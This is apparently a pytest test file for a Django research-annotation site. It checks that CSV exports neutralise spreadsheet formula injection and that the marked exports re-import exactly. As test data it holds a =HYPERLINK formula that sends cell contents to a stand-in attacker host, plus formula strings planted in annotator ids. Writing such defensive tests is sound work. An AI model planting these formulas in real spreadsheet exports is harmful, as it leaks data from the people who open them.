"""CSV exports open in spreadsheets: text from outside (Prolific ids, prompts) must not run as a formula there.

OWASP's rule (evalsite/csv_cells.py): a cell beginning with =, +, -, @, tab or CR gets a leading ', JSON keeps the
raw value, and EvalSite's own import reads back exactly what was exported.
"""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse

from analysis.selectors import ratings_frame
from annotations.models import Annotator, Prompt, Study
from evalsite.csv_cells import neutralise, restore
from tests.annotations.test_imports import rated_study

pytestmark = pytest.mark.django_db

FORMULA_PROMPT = '=HYPERLINK("http://evil.example/?"&A1,"a cat")'
TRICKY = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=x", "''=x", "'Tis a cat", "''Tis", "plain", "", "'"]


@pytest.mark.parametrize("value", TRICKY)
def test_marking_is_undone_exactly(value):
    marked = neutralise(value)
    assert restore(marked) == value
    assert not marked.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_harmless_text_and_numbers_are_left_alone():
    assert neutralise("a cat on a mat") == "a cat on a mat" and neutralise("'Tis") == "'Tis"
    assert neutralise(-3) == -3 and neutralise(None) is None


def hostile_study() -> Study:
    study = rated_study("hostile")
    first, second = Annotator.objects.filter(study=study).order_by("pk")
    Annotator.objects.filter(pk=first.pk).update(external_id="@SUM(A1:A9)")
    Annotator.objects.filter(pk=second.pk).update(external_id="-2+3")
    Prompt.objects.filter(study=study, position=0).update(text=FORMULA_PROMPT)
    return study


def export(*args) -> str:
    out = io.StringIO()
    call_command("export_results", *args, stdout=out)
    return out.getvalue()


def test_the_ratings_csv_marks_formulas_and_the_data_keep_the_raw_values():
    study = hostile_study()
    rows = list(csv.DictReader(io.StringIO(export("hostile", "--format", "csv"))))
    cells = [value for row in rows for value in row.values()]
    assert not [value for value in cells if value.startswith(("=", "+", "@", "\t", "\r"))]
    assert "'" + FORMULA_PROMPT in {row["item"] for row in rows}
    assert {row["annotator"] for row in rows} == {"'@SUM(A1:A9)", "'-2+3"}
    frame = ratings_frame(study=study)  # what the JSON, the plots and the statistics read
    assert FORMULA_PROMPT in set(frame["item"]) and {"@SUM(A1:A9)", "-2+3"} == set(frame["annotator"])


def test_the_marked_csv_imports_back_to_the_same_ratings(tmp_path):
    original = hostile_study()
    text = export("hostile", "--format", "csv").replace("hostile,", "copy,")
    path = tmp_path / "copy.csv"
    path.write_text(text, encoding="utf-8")
    call_command("import_ratings", "copy", str(path), stdout=io.StringIO())
    before = ratings_frame(study=original).drop(columns="study")
    after = ratings_frame(study=Study.objects.get(slug="copy")).drop(columns="study")
    assert after.equals(before), (before, after)
    assert FORMULA_PROMPT in set(after["item"]) and {"@SUM(A1:A9)", "-2+3"} == set(after["annotator"])


def test_the_invite_links_csv_marks_formulas(client):
    study = hostile_study()
    client.force_login(get_user_model().objects.create_superuser("admin", password="pw"))
    response = client.get(reverse("admin:annotations_study_invites_csv", args=[study.pk]))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {row["annotator"] for row in rows} == {"'@SUM(A1:A9)", "'-2+3"}
